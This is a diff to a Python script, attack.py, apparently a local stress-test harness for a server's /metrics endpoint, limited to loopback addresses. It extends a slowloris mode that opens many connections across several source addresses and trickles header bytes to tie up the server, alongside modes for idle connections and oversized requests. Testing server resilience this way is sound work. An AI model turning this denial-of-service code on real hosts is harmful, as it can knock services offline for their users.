@@ -13,11 +13,12 @@ loopback only.
                                     addresses SRC (127.x.y.z), opened at
                                     once and kept, silent, for SECS s;
                                     prints how many connected
-  attack.py slowloris SRC HOST PORT N SECS
-                                    N connections from SRC, each sending a
+  attack.py slowloris SRC[,SRC...] HOST PORT N SECS
+                                    N connections spread over the source
+                                    addresses SRC, each sending a
                                     request's headers one byte a second for
                                     SECS s; prints how many were still open
-                                    at the end
+                                    at the end (not closed by the server)
   attack.py big SRC HOST PORT url|header BYTES
                                     one request with a BYTES-long URL or
                                     header; prints the status line's code,
@@ -88,12 +89,13 @@ def hold(srcs, host, port, n, secs):
         s.close()
 
 
-def slowloris(src, host, port, n, secs):
+def slowloris(srcs, host, port, n, secs):
+    nofile(n + 64)
     socks = []
-    for _ in range(n):
+    for i in range(n):
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         s.settimeout(2)
-        s.bind((src, 0))
+        s.bind((srcs[i % len(srcs)], 0))
         try:
             s.connect((host, port))
             s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
@@ -103,6 +105,19 @@ def slowloris(src, host, port, n, secs):
     trickle = b"X-Slow: " + b"a" * 4096
     for i in range(secs):
         time.sleep(1)
+        # a connection the server closed reads as the end of the stream
+        if socks:
+            r, _, _ = select.select(socks, [], [], 0)
+            for s in r:
+                try:
+                    gone = s.recv(4096, socket.MSG_DONTWAIT) == b""
+                except BlockingIOError:
+                    gone = False
+                except OSError:
+                    gone = True
+                if gone:
+                    socks.remove(s)
+                    s.close()
         for s in list(socks):
             try:
                 s.send(trickle[i % len(trickle):i % len(trickle) + 1])
@@ -166,7 +181,7 @@ def main(argv):
              float(argv[i + 4]))
         return 0
     if cmd == "slowloris":
-        slowloris(argv[2], argv[3], int(argv[4]), int(argv[5]),
+        slowloris(argv[2].split(","), argv[3], int(argv[4]), int(argv[5]),
                   int(argv[6]))
         return 0
     if cmd == "big":
